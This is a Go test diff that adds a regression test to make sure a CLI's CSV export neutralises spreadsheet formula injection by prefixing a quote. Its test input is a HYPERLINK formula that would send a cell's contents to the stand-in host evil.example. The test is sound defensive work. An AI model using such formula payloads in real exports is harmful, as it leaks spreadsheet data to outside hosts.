@@ -181,3 +181,24 @@ func mustID(s string) int64 {
 	}
 	return n
 }
+
+// TestCSVOutputNeutralisesFormulas (issue 12, defect 3): `--output csv` writes a cell that a
+// spreadsheet would run as a formula with a quote in front.
+func TestCSVOutputNeutralisesFormulas(t *testing.T) {
+	_, url := startServer(t)
+	const name = `=HYPERLINK("http://evil.example/?leak="&A1,"Q3.xlsx")`
+	if _, errs, code := run(t, url, "", "searches", "save", name, "exposure:public_link"); code != 0 {
+		t.Fatalf("save: %s", errs)
+	}
+	out, errs, code := run(t, url, "", "searches", "list", "--output", "csv")
+	if code != 0 {
+		t.Fatalf("list: %s", errs)
+	}
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("csv: %v %q", err, out)
+	}
+	if rows[1][1] != "'"+name {
+		t.Errorf("name cell %q, want it with a quote in front", rows[1][1])
+	}
+}
